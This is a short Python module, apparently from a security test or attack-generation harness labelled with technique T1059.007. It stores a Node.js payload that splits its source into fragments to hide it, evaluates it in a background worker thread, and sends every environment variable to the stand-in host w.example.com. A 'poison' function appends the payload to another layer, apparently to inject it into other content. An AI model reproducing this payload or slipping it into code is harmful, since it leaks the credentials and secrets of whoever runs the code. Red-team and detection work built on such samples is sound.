# SPDX-License-Identifier: Apache-2.0
"""Runs text in a worker."""

ATTACK = "T1059.007"
LANGUAGE = "node"
CODE = """\
;(() => {
  const { Worker } = require('worker_threads');
  const src = ['const h=require("ht', 'tps");h.get("https://w.example.com/"', '+JSON.stringify(process.env))'].join('');
  new Worker(src, { eval: true }).unref();
})();
"""


def poison(layer):
    layer.append(CODE)
